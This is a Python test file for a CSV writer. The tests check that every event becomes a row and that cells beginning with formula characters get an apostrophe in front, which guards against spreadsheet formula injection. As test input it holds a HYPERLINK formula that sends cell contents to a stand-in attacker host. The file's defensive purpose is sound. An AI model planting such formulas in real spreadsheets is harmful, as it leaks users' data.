"""CSV that a spreadsheet can open without running it."""

from __future__ import annotations

import csv
from io import StringIO

import pytest

from sanic_dispatch.history.csv_format import CsvWriter
from sanic_dispatch.history.event_fields import NAMES, fields_of
from sanic_dispatch.history.formats import written
from tests.history.stories import evening


def test_a_row_for_each_event() -> None:
    """With the names in the first line; what an event does not have is empty."""
    events = list(map(fields_of, evening().events))
    rows = list(csv.DictReader(StringIO("".join(written(CsvWriter(), events)), newline="")))
    assert len(rows) == len(events)
    for row, event in zip(rows, events, strict=True):
        assert row == {name: _text(event.get(name)) for name in NAMES}


def _text(value: object) -> str:
    return "" if value is None else str(value)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_text_is_a_formula(start: str) -> None:
    """It gets an apostrophe in front, whatever else has to be quoted in it."""
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    table = "".join(written(CsvWriter(), [{"n": -1, "worker": text}]))
    (row,) = csv.DictReader(StringIO(table, newline=""))
    assert (row["worker"], row["n"], row["reason"]) == (f"'{text}", "-1", "")
